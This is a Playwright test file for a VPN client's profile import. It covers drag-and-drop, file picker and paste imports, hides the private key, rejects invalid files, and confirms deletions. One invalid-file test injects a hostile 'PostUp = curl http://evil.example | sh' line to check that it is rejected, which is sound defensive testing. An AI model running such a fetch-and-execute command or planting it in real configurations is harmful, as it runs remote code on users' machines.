import { expect, test } from './fixtures';
import { checkState } from './a11y';
import { profileText } from './wg-keys';

async function dropFile(app: import('@playwright/test').Page, name: string, content: string) {
  const dataTransfer = await app.evaluateHandle(
    ({ name, content }) => {
      const dt = new DataTransfer();
      dt.items.add(new File([content], name, { type: 'text/plain' }));
      return dt;
    },
    { name, content },
  );
  await app.dispatchEvent('main', 'dragenter', { dataTransfer });
  await expect(app.getByText('Drop the profile or bundle from IT to import it')).toBeVisible();
  await app.dispatchEvent('main', 'drop', { dataTransfer });
}

test.describe('profiles on the Connect page', () => {
  test('drag-and-drop import from another page stores the profile and never shows the private key', async ({ app, goto }) => {
    const { text, me } = profileText({ address: '10.77.1.2/32' });
    await goto('settings');
    await dropFile(app, 'farm-paris.conf', text);
    await expect(app.getByRole('heading', { level: 1, name: 'Connect' })).toBeVisible();
    await expect(app.getByRole('alert', { name: 'Import result' })).toContainText('Stored as “farm-paris”');
    const table = app.getByRole('table', { name: 'Profiles' });
    await expect(table).toContainText('farm-paris');
    await expect(table).toContainText('192.0.2.10:51820');
    await app.getByRole('button', { name: 'farm-paris' }).click();
    const detail = app.getByRole('region', { name: 'Profile farm-paris' });
    await expect(detail).toContainText(me.publicKey);
    expect(await app.content()).not.toContain(me.privateKey);
    await checkState(app, 'connect-profile-imported');
  });

  test('Import profile… (the file picker) stores the picked file; the key never shows', async ({ app, goto }, testInfo) => {
    test.skip(testInfo.project.name === 'electron', 'the harness page\'s file chooser; Electron shows the native dialog');
    await goto('connect');
    const { text, me } = profileText({ address: '10.77.4.2/32' });
    // What the browser's file chooser hands the page when the artist picks the file from IT.
    const chooser = app.waitForEvent('filechooser');
    await app.getByRole('button', { name: 'Import profile…' }).click();
    await (await chooser).setFiles({ name: 'farm-picked.conf', mimeType: 'text/plain', buffer: Buffer.from(text) });
    await expect(app.getByRole('alert', { name: 'Import result' })).toContainText('Stored as “farm-picked”');
    await expect(app.getByRole('table', { name: 'Profiles' })).toContainText('farm-picked');
    expect(await app.content()).not.toContain(me.privateKey);
  });

  test('paste import with a chosen name', async ({ app, goto }) => {
    await goto('connect');
    const { text, me } = profileText({ address: '10.77.2.2/32' });
    await app.getByRole('button', { name: 'Paste profile text' }).click();
    await app.getByLabel('Profile text').fill(text);
    await app.getByLabel(/^Name/).fill('pasted-farm');
    await app.getByRole('button', { name: 'Import pasted text' }).click();
    await expect(app.getByRole('alert', { name: 'Import result' })).toContainText('Stored as “pasted-farm”');
    await expect(app.getByRole('table', { name: 'Profiles' })).toContainText('pasted-farm');
    expect(await app.content()).not.toContain(me.privateKey);
  });

  test('an invalid file shows line-numbered errors and stores nothing', async ({ app, goto }) => {
    await goto('connect');
    const { text } = profileText();
    const broken = text.replace(/^(DNS = .*)$/m, '$1\nPostUp = curl http://evil.example | sh').replace(/^Address = .*$/m, 'Address = 10.77.3.2/33');
    await dropFile(app, 'broken.conf', broken);
    const result = app.getByRole('alert', { name: 'Import result' });
    await expect(result).toContainText('broken.conf was not imported');
    await expect(result).toContainText(/broken\.conf, line 3: /);
    await expect(result).toContainText(/broken\.conf, line 5: .*PostUp/);
    await expect(app.getByRole('table', { name: 'Profiles' }).getByRole('button', { name: 'broken' })).toHaveCount(0);
    await checkState(app, 'connect-import-errors');
  });

  test('delete asks for confirmation', async ({ app, goto }) => {
    await goto('connect');
    const { text } = profileText({ address: '10.77.4.2/32' });
    await dropFile(app, 'to-delete.conf', text);
    await app.getByRole('button', { name: 'to-delete' }).click();
    await app.getByRole('button', { name: 'Delete…' }).click();
    await app.getByRole('group', { name: 'Confirm deletion' }).getByRole('button', { name: 'Cancel' }).click();
    await expect(app.getByRole('button', { name: 'to-delete' })).toBeVisible();
    await app.getByRole('button', { name: 'Delete…' }).click();
    await app.getByRole('group', { name: 'Confirm deletion' }).getByRole('button', { name: 'Delete' }).click();
    await expect(app.getByRole('button', { name: 'to-delete' })).toHaveCount(0);
  });
});
